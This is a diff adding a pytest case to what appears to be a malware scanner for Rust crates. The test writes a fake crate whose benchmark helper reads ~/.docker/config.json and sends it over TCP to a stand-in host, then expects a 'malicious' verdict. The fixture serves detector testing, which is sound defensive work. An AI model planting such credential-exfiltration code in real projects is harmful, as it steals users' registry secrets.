@@ -253,3 +253,24 @@ def test_a_sys_build_script_fetching_a_pinned_release_is_not_malicious(tmp_path:
         "zstd-sys-2.0.1",
     )
     assert scan_path(loader).verdict == "malicious"
+
+
+def test_a_flow_in_test_code_counts_for_the_verdict(tmp_path: Path) -> None:
+    """What the crate's own developers and CI run (`cargo test`, `cargo bench`) is code
+    that runs: a credential file sent from a benchmark's helper is malware's work."""
+    crate = tmp_path / "bench-helper-1.0.0"
+    (crate / "benches" / "support").mkdir(parents=True)
+    (crate / "src").mkdir()
+    (crate / "Cargo.toml").write_text('[package]\nname = "bench-helper"\nversion = "1.0.0"\n')
+    (crate / "src" / "lib.rs").write_text("pub fn parse(s: &str) -> usize { s.len() }\n")
+    (crate / "benches" / "support" / "mod.rs").write_text(
+        "use std::io::Write;\n"
+        "pub fn publish() {\n"
+        '  let home = std::env::var_os("HOME").unwrap();\n'
+        '  let auths = std::fs::read(std::path::Path::new(&home).join(".docker/config.json"));\n'
+        '  let mut s = std::net::TcpStream::connect("metrics.example-cdn.com:9091").unwrap();\n'
+        '  let _ = write!(s, "{:?}", auths);\n}\n'
+    )
+    result = scan_path(crate, None)
+    assert result.verdict == "malicious"
+    assert any(e.rule == "threat-dataflow-exfiltration" for e in result.findings)
